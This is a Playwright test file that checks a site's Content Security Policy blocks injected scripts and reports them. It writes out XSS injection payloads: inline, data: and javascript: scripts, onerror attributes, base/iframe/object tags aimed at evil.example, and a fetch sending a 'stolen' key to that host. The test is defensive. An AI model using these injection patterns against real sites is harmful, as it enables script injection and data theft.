import { expect, northlineSite, run, test } from '../journey.ts';
import { hostsAt } from '../platform.ts';
import { takePolicyViolations } from '../policy-violations.ts';
import { settled } from '../settled.ts';

test.use({ expectedPolicyViolations: /^enforce: / });

declare global {
  interface Window {
    ran?: string[];
  }
}

/** Ways to run a script that an attacker would have injected. Each would add its name to `window.ran`. */
function injectScripts(): void {
  const codeOf = (name: string) => `(window.ran ??= []).push('${name}')`;
  const script = document.createElement('script');
  script.textContent = codeOf('inline');
  document.body.append(script);
  const foreign = document.createElement('script');
  foreign.src = 'https://evil.example/x.js';
  document.body.append(foreign);
  const data = document.createElement('script');
  data.src = `data:text/javascript,${codeOf('data')}`;
  document.body.append(data);
  document.body.insertAdjacentHTML('beforeend', `<img src="data:," onerror="${codeOf('attribute')}">`);
  document.body.insertAdjacentHTML('beforeend', `<a id="link" href="javascript:${codeOf('link')}">a</a>`);
  document.querySelector<HTMLElement>('#link')?.click();
  // oxlint-disable-next-line typescript/no-implied-eval -- the policy must refuse it
  setTimeout(codeOf('timeout'));
  document.body.insertAdjacentHTML('beforeend', '<object data="https://evil.example/x.swf"></object>');
  document.head.insertAdjacentHTML('beforeend', '<base href="https://evil.example/">');
  document.body.insertAdjacentHTML('beforeend', '<iframe src="https://evil.example/"></iframe>');
  void fetch('https://evil.example/?stolen=key').catch(() => null);
}

test('injected scripts do not run, send nothing, and are reported', async ({ page }) => {
  const foreignRequests: string[] = [];
  await page.route('https://evil.example/**', async (route) => {
    foreignRequests.push(route.request().url());
    await route.abort();
  });
  await page.goto(`${northlineSite.url}/faq?api_key=secret`);
  await settled(page);
  expect(takePolicyViolations()).toEqual([]);

  const reported = page.waitForRequest((request) => request.url().includes('/csp-report?channel='));
  await page.evaluate(injectScripts);
  const report = await (await reported).response();
  expect(report?.status()).toBe(204);

  const blocked: string[] = [];
  await expect
    .poll(() => {
      blocked.push(...takePolicyViolations());
      return [...new Set(blocked.map((text) => / ([a-z-]+) of /.exec(text)?.[1] ?? ''))].toSorted();
    })
    .toEqual([
      'base-uri',
      'connect-src',
      'frame-src',
      'object-src',
      'script-src',
      'script-src-attr',
      'script-src-elem',
    ]);
  await expect.poll(() => page.evaluate(() => window.ran ?? [])).toEqual([]);
  expect(foreignRequests).toEqual([]);

  await expect
    .poll(async () => (await page.request.get(hostsAt(run.platform.url).logs)).text())
    .toContain('script-src-elem blocks inline');
  expect(await (await page.request.get(hostsAt(run.platform.url).logs)).text()).not.toContain('secret');
});
